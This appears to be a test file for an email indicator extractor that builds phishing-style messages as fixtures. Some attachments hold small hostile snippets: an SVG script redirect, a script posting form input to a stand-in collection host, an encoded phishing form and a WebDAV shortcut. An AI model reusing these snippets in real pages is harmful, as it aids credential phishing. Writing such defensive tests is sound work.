import { parseEmail } from '../../../lib/email';
import { extractIndicators, LEAVE_OUT_PRESETS } from '../../../lib/indicators';
import {
	asMsgMail,
	msg,
	text as outlookText,
	unicode,
	winmail,
	properties,
	attribute,
	ATTRIBUTE,
} from '../email/outlookFiles';

/*
 * A message of each class, from its bytes to what Email to STIX hands on by default. The classes are those that public bug reports of
 * mail tools fall into; the rules behind each are in as-meant.test.ts and in the tests of lib/email.
 */

interface Case {
	bytes: Buffer | string;
	/** `type:value`, all of which are handed on. */
	right: readonly string[];
	/** What is nowhere in what is handed on. */
	never?: RegExp;
}

const HEAD =
	'From: a@sender.example\r\nTo: jane@own.example\r\nSubject: t\r\nDate: Mon, 5 Jan 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n';
const encoded = (text: string | Buffer): string => Buffer.from(text).toString('base64').replace(/.{76}/g, '$&\r\n');
const body = (text: string, type = 'text/plain'): string =>
	`${HEAD}Content-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded(text)}\r\n`;
const multipart = (...parts: string[]): string =>
	`${HEAD}Content-Type: multipart/mixed; boundary=cut\r\n\r\n${parts.map((part) => `--cut\r\n${part}\r\n`).join('')}--cut--\r\n`;
const file = (content: string | Buffer, name: string, type: string): string =>
	multipart(
		'Content-Type: text/plain\r\n\r\nsee the file',
		`Content-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded(content)}`,
	);

/** DER of one element. */
function der(tag: number, ...contents: Buffer[]): Buffer {
	const content = Buffer.concat(contents);
	const size = content.length;
	const length = size < 128 ? [size] : size < 256 ? [0x81, size] : [0x82, size >> 8, size & 255];
	return Buffer.concat([Buffer.from([tag, ...length]), content]);
}
/** A message that is signed, inside of its signature (RFC 8551 section 3.5.2). */
const signed = (content: string): Buffer => {
	const identifier = (last: number) => der(0x06, Buffer.from([0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, last]));
	const inside = der(0x30, identifier(1), der(0xa0, der(0x04, Buffer.from(content))));
	return der(0x30, identifier(2), der(0xa0, der(0x30, der(0x02, Buffer.from([1])), der(0x31), inside, der(0x31))));
};

const MD5 = '6d0f4c1b2a3e4d5f8a9b0c1d2e3f4a5b';
const SHA1 = '9a3f5c7e1b2d4f60718293a4b5c6d7e8f9012345';

const CASES: Readonly<Record<string, Case>> = {
	'domains-taken-for-files: a list of hosts under suffixes that are words': {
		bytes: body(
			'domain\nverify-account.net\nimg.drop-zone.net\ninvoice.pages.dev\npay.web.app\nbank-alert.pl\nrefund.in\nlogin-pay.no\nok-host.com\n',
		),
		right: [
			'verify-account.net',
			'img.drop-zone.net',
			'invoice.pages.dev',
			'pay.web.app',
			'bank-alert.pl',
			'refund.in',
			'login-pay.no',
			'ok-host.com',
		].map((name) => `domain-name:${name}`),
	},
	...Object.fromEntries(
		[
			['an open redirect', 'https://go.shop.example/r?url=https%3A%2F%2Fdrop.example.net%2Fin%3Fa%3D1&id=7'],
			[
				'a counter under the own domain of a sender',
				'https://click.shop.example/CL0/https:%2F%2Fdrop.example.net%2Fin%3Fa=1/1/0100',
			],
			['LinkedIn', 'https://www.linkedin.com/safety/go?url=https%3A%2F%2Fdrop.example.net%2Fin%3Fa%3D1&trk=x'],
			['YouTube', 'https://www.youtube.com/redirect?event=v&q=https%3A%2F%2Fdrop.example.net%2Fin%3Fa%3D1'],
		].map(([what, url]) => [
			`embedded-target: ${what}`,
			{
				bytes: body(`<a href="${url!.replaceAll('&', '&amp;')}">x</a>`, 'text/html'),
				right: ['url:https://drop.example.net/in?a=1'],
			},
		]),
	),
	'embedded-target: a gateway that names the host alone': {
		bytes: body('<a href="https://protect-au.mimecast.com/s/abc1?domain=drop.example.net">x</a>', 'text/html'),
		right: ['domain-name:drop.example.net'],
	},
	'sender-address-altered: with an equals sign': {
		bytes:
			'From: <shop=own.example@bounce.esp.example>\r\nReturn-Path: <shop=own.example@bounce.esp.example>\r\nTo: b@own.example\r\nSubject: t\r\n\r\nhi\r\n',
		right: ['email-addr:shop=own.example@bounce.esp.example'],
		never: /email-addr:own\.example@/,
	},
	'sender-address-altered: with a slash': {
		bytes:
			'From: <Sale/Boots42@shop.example>\r\nReturn-Path: <Sale/Boots42@shop.example>\r\nTo: b@own.example\r\nSubject: t\r\n\r\nhi\r\n',
		right: ['email-addr:sale/boots42@shop.example'],
		never: /email-addr:boots/,
	},
	'html-script-urls: a redirect in a picture': {
		bytes: file(
			'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[location.replace("https://drop.example.net/s?e=1")]]></script></svg>',
			'scan.svg',
			'image/svg+xml',
		),
		right: ['url:https://drop.example.net/s?e=1'],
	},
	'html-script-urls: where a form sends what was typed': {
		bytes: file(
			'<form id=f><input name=p></form><script>fetch("https://drop.example.net/data.php",{method:"POST"})</script>',
			'Pay.html',
			'text/html',
		),
		right: ['url:https://drop.example.net/data.php'],
	},
	'html-script-urls: a page that is written by its script': {
		bytes: file(
			'<script>document.write(unescape("%3Cform%20action%3D%22https%3A//drop.example.net/p.php%22%3E"))</script>',
			'pay.html',
			'text/html',
		),
		right: ['url:https://drop.example.net/p.php'],
	},
	'inline-text-parts: an invitation beside the text': {
		bytes: multipart(
			'Content-Type: text/plain\r\n\r\nMeeting',
			'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VEVENT\r\nORGANIZER:mailto:boss@drop.example.net\r\nLOCATION:https://drop.example.net/lo\r\n c\r\nEND:VEVENT',
		),
		right: ['url:https://drop.example.net/loc', 'email-addr:boss@drop.example.net'],
	},
	'inline-text-parts: a report of abuse': {
		bytes: multipart(
			'Content-Type: text/plain\r\n\r\nabuse',
			'Content-Type: message/feedback-report\r\n\r\nFeedback-Type: abuse\r\nUser-Agent: X/1\r\nVersion: 1\r\nSource-IP: 198.51.100.7\r\nReported-URI: https://drop.example.net/arf\r\n',
		),
		right: ['ipv4-addr:198.51.100.7', 'url:https://drop.example.net/arf'],
	},
	'csv-columns: a URL and what stands beside it': {
		bytes: body('link,https://board.example.net/g/a1b2c3,Spam board\n'),
		right: ['url:https://board.example.net/g/a1b2c3'],
		never: /Spam/,
	},
	'smime-opaque: the message inside of its signature': {
		bytes: `${HEAD}Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded(
			signed('Content-Type: text/html\r\n\r\n<a href="https://drop.example.net/in">Open</a>\r\n'),
		)}\r\n`,
		right: ['url:https://drop.example.net/in'],
	},
	'ics-folding: lines that are folded': {
		bytes: file(
			'BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://login.drop.example.net/secure/acc\r\n ount?session=1\\nor https://second.dr\r\n\top.example.net/x\r\nEND:VCALENDAR\r\n',
			'a.ics',
			'text/calendar',
		),
		right: ['url:https://login.drop.example.net/secure/account?session=1', 'url:https://second.drop.example.net/x'],
		never: /second\.dr\/|:op\.example/,
	},
	'bracket-joined-urls: a link of Markdown': {
		bytes: body('[https://shop.example.net/login](https://drop.example.net/a)'),
		right: ['url:https://drop.example.net/a', 'url:https://shop.example.net/login'],
		never: /\]\(/,
	},
	'md5-taken-for-uuid: labelled, and in a list': {
		bytes: body(`MD5: ${MD5}\nSHA-1: ${SHA1}\nMD5,${MD5.replace('6d0f', '7e0a')},loader.exe\n`),
		right: [`file:${MD5}`, `file:${SHA1}`, `file:${MD5.replace('6d0f', '7e0a')}`],
	},
	'scheme-wrong: https that is written with a bracket': {
		bytes: body('http[s]://drop.example.net/a and hxxp[s]://two.example.net/b and http(s)://three.example.net/c'),
		right: ['url:https://drop.example.net/a', 'url:https://two.example.net/b', 'url:https://three.example.net/c'],
		never: /url:http:/,
	},
	'escaped-text: marks that Markdown escaped': {
		bytes: body(
			'drop\\[.\\]example\\[.\\]net and hxxps\\[:\\]//bad\\[.\\]example\\[.\\]net/x and 198\\[.\\]51\\[.\\]100\\[.\\]9',
		),
		right: ['domain-name:drop.example.net', 'url:https://bad.example.net/x', 'ipv4-addr:198.51.100.9'],
	},
	'wrapped-angle-url: broken between brackets, inside of Safe Links': {
		bytes: body(
			'Check\n<https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fdrop.exam\nple.net%2Flogin&data=05%7C01&reserved=0> now',
		),
		right: ['url:https://drop.example.net/login'],
		never: /drop\.exam\/|:ple\.net/,
	},
	'unc-webdav: a shortcut to a share': {
		bytes: file(
			'[InternetShortcut]\r\nURL=C:\\Windows\\x.exe\r\nWorkingDirectory=\\\\drop.example.net@ssl@443\\DavWWWRoot\\a\r\n',
			'doc.url',
			'application/octet-stream',
		),
		right: ['domain-name:drop.example.net'],
	},
	'rtf-only-body: a text in RTF': {
		bytes: file(
			String.raw`{\rtf1\ansi {\field{\*\fldinst HYPERLINK "https://drop.example.net/r"}{\fldrslt Open}}}`,
			'a.doc',
			'application/msword',
		),
		right: ['url:https://drop.example.net/r'],
	},
	'from-encoded: name and address in one encoded word': {
		bytes: `From: =?utf-8?B?${Buffer.from('"Bank" <x@drop.example.net>').toString('base64')}?=\r\nSubject: t\r\n\r\nhi\r\n`,
		right: ['email-addr:x@drop.example.net'],
	},
	'defang-words: in other languages': {
		bytes: body('drop[точка]example[точка]net, two[ponto]example[ponto]net, jane(a)three.example.net'),
		right: ['domain-name:drop.example.net', 'domain-name:two.example.net', 'email-addr:jane@three.example.net'],
	},
	'hidden-text: letters that nobody sees': {
		bytes: body(
			'<p>https://dr<span style="display:none">XX</span>op.example.net/a and <span style="font-size:0">junk</span>good.example.net</p>',
			'text/html',
		),
		right: ['url:https://drop.example.net/a', 'domain-name:good.example.net'],
		never: /drXXop|drxxop|junkgood/,
	},
	'non-file-hashes: digests of something else': {
		bytes: body(`imphash: ${MD5}\nJA3: ${MD5.replace('6d0f', '7e0a')}\nThumbprint ${SHA1}\n`),
		right: [],
		never: /file:/,
	},
	'trailing-dot-host: the dot of the root': {
		bytes: body('go to http://drop.example.net./login?x=1 now'),
		right: ['url:http://drop.example.net./login?x=1', 'domain-name:drop.example.net'],
		never: /url:http:\/\/drop\.example\.net\/$/m,
	},
	'text-file-types: HTML that is called nothing': {
		bytes: file('<!doctype html><form action="https://drop.example.net/a">', 'document', 'application/octet-stream'),
		right: ['url:https://drop.example.net/a'],
	},
	'transfer-encoding-lies: base64 that is none': {
		bytes: `${HEAD}Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nplain words, and https://drop.example.net/a\r\n`,
		right: ['url:https://drop.example.net/a'],
	},
	'attachment-charset: UTF-16 without a mark': {
		bytes: file(
			Buffer.from('<a href="https://drop.example.net/u">x</a>', 'utf16le'),
			'x.html',
			'text/html; charset=utf-16le',
		),
		right: ['url:https://drop.example.net/u'],
	},
	'outside-text: before the first and after the last part': {
		bytes: multipart('Content-Type: text/plain\r\n\r\nhi')
			.replace('\r\n\r\n--cut', '\r\n\r\nhttps://drop.example.net/pre\r\n--cut')
			.concat('https://drop.example.net/epi\r\n'),
		right: ['url:https://drop.example.net/pre', 'url:https://drop.example.net/epi'],
	},
	'emoji-host: a name of a picture': {
		bytes: body('https://\u{1f48c}.drop.example.net/y'),
		right: ['url:https://xn--rr8h.drop.example.net/y'],
		never: /url:http:/,
	},
	'uuencode-in-text: a file in the text': {
		bytes: `${HEAD}\r\nhi\r\nbegin 644 a.txt\r\n${uuencoded('https://drop.example.net/uu')}\r\n\`\r\nend\r\n`,
		right: ['url:https://drop.example.net/uu'],
	},
	'msg-exchange-sender: an address in a property of Exchange': {
		bytes: winmail(
			attribute(
				ATTRIBUTE.properties,
				properties([unicode(0x0c1f, '/O=CORP/CN=A'), unicode(0x5d02, 'boss@drop.example.net')]),
			),
		),
		right: ['email-addr:boss@drop.example.net'],
	},
	'msg-exchange-sender: in a file of Outlook': {
		bytes: asMsgMail(msg(outlookText(0x0c1f, '/O=CORP/CN=A'), outlookText(0x5d0a, 'boss@drop.example.net'))),
		right: ['email-addr:boss@drop.example.net'],
	},
	'detection-names: what anti-virus programs say': {
		bytes: body('W64/LOADER.XY!tr Trojan-Downloader.MSIL.Agent.to Backdoor.MSIL.Agent.to'),
		right: [],
		never: /domain-name:(?!sender\.example)/,
	},
	'meta-refresh: without the word url': {
		bytes: body('<meta http-equiv=refresh content="0; https://drop.example.net/m">', 'text/html'),
		right: ['url:https://drop.example.net/m'],
	},
	'other text parts: AMP, enriched text, XML': {
		bytes: multipart(
			'Content-Type: text/x-amp-html\r\n\r\n<a href="https://drop.example.net/amp">x</a>',
			'Content-Type: text/enriched\r\n\r\n<bold>https://drop.example.net/enr</bold>',
			'Content-Type: text/xml\r\n\r\n<a>https://drop.example.net/xml</a>',
		),
		right: ['url:https://drop.example.net/amp', 'url:https://drop.example.net/enr', 'url:https://drop.example.net/xml'],
	},
	'links of styles and of all attributes': {
		bytes: body(
			'<style>td{background:url("https://drop.example.net/bg.png")}</style><div style="background-image:url(https://drop.example.net/two.png)"><a href="https://shop.example.net/" data-saferedirecturl="https://drop.example.net/three">x</a></div>',
			'text/html',
		),
		right: [
			'url:https://drop.example.net/bg.png',
			'url:https://drop.example.net/two.png',
			'url:https://drop.example.net/three',
		],
	},
	'a sender that only shows': {
		bytes: 'From: Prize, (<win@drop.example.net>)\r\nSubject: t\r\n\r\nhi\r\n',
		right: ['email-addr:win@drop.example.net'],
	},
	'a comma for a dot is no address': {
		bytes: 'From: <win@drop,com>\r\nSubject: t\r\n\r\nhi\r\n',
		right: [],
		never: /win@/,
	},
};

function uuencoded(text: string): string {
	const bytes = Buffer.from(text);
	const characters = [bytes.length];
	for (let at = 0; at < bytes.length; at += 3) {
		const word = ((bytes[at] ?? 0) << 16) | ((bytes[at + 1] ?? 0) << 8) | (bytes[at + 2] ?? 0);
		characters.push(word >> 18, (word >> 12) & 63, (word >> 6) & 63, word & 63);
	}
	return characters.map((value) => String.fromCharCode(value === 0 ? 96 : value + 32)).join('');
}

it.each(Object.entries(CASES))('%s', async (_, { bytes, right, never }) => {
	const email = await parseEmail(Buffer.from(bytes));
	// Addresses of the reserved names are what the cases are written with.
	const exclude = LEAVE_OUT_PRESETS.phishingTriage.filter((flag) => flag !== 'link-text');
	const handedOn = extractIndicators(email, { exclude });
	const values = handedOn.flatMap(({ type, value, hashes = {} }) => [
		`${type}:${value}`,
		...Object.values(hashes).map((hash) => `file:${hash}`),
	]);
	expect(values).toEqual(expect.arrayContaining([...right]));
	const inText = handedOn.filter(({ sources }) => !sources.every(({ part }) => part.endsWith('attachment')));
	if (never !== undefined) expect(inText.map(({ type, value }) => `${type}:${value}`).join('\n')).not.toMatch(never);
});
